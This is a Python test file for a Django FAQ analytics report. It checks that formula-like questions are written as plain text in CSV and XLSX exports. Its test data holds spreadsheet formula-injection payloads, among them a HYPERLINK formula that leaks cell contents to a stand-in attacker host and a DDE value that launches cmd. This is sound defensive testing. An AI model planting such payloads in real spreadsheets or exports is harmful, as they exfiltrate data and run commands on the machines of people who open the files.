"""The monthly report writes formula-like FAQ questions as text, in CSV and XLSX, the same way as the FAQ export."""

import csv
import io

import pytest
import time_machine
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook

from analytics.aggregation import aggregate_month
from faq.models import Department, Faq
from tests.analytics.support import OCTOBER, jst
from tests.factories import FaqFactory

pytestmark = pytest.mark.django_db

QUESTIONS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"詳しくはこちら")',
    "+1+1 の手数料",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    "＝1+1",
    "＋cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(1+1)",
    "-5℃以下の日の水道管",
]


@pytest.fixture
def formula_month(kankyo: Department, faq_admin: User) -> list[Faq]:
    """FAQs a staff member wrote in October 2026 with formula-like questions, and the month aggregated."""
    with time_machine.travel(jst(2026, 10, 5), tick=False):
        faqs = [FaqFactory.create(department=kankyo, question=text, answer="回答です。") for text in QUESTIONS]
    Faq.history.filter(id__in=[faq.pk for faq in faqs]).update(history_user=faq_admin)
    with time_machine.travel(jst(2026, 11, 5), tick=False):
        aggregate_month(OCTOBER)
    return faqs


def download(client: Client, user: User, fmt: str) -> bytes:
    client.force_login(user)
    response = client.get(f"/admin/analytics/monthlyaggregate/report/2026-10.{fmt}")
    assert response.status_code == 200
    return response.content


def test_xlsx_report_shows_formula_questions_as_text_cells(
    formula_month: list[Faq], faq_admin: User, client: Client
) -> None:
    book = load_workbook(io.BytesIO(download(client, faq_admin, "xlsx")))
    sheet = book["変更 Changes"]
    by_id = {row[0].value: row[1] for row in sheet.iter_rows() if row and row[0].value is not None}

    for faq in formula_month:
        cell = by_id[faq.pk]
        assert cell.value == "'" + faq.question
        assert cell.data_type == "s"
    assert all(cell.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for cell in row)


def test_csv_report_writes_formula_questions_with_an_apostrophe(
    formula_month: list[Faq], faq_admin: User, client: Client
) -> None:
    rows = list(csv.reader(io.StringIO(download(client, faq_admin, "csv").decode("utf-8-sig"), newline="")))
    by_id = {row[0]: row[1] for row in rows if len(row) > 1}

    assert [by_id[str(faq.pk)] for faq in formula_month] == ["'" + text for text in QUESTIONS]
